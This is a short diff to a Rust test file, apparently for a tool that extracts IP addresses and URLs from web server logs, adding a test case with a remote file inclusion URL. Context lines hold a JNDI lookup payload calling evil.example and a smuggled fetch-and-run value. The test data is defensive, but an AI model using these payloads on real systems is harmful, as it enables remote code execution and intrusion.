@@ -204,6 +204,14 @@ fn web_servers_give_the_client_and_what_it_tried_to_load() {
         ],
     );
     gives(
+        json!({"data": {"srcip": "203.0.113.7", "url": "/?page=http%3A%2F%2F198.51.100.9%2Fs.txt%3F"}}),
+        &[
+            "Ip 203.0.113.7 data.srcip source",
+            "Ip 198.51.100.9 data.url either host",
+            "Url http://198.51.100.9/s.txt data.url either text",
+        ],
+    );
+    gives(
         json!({"data": {"srcip": "203.0.113.7", "url": "/?x=${jndi:ldap://evil.example:1389/a}&y=%20http://198.51.100.9/s.sh;sh"}}),
         &[
             "Ip 203.0.113.7 data.srcip source",
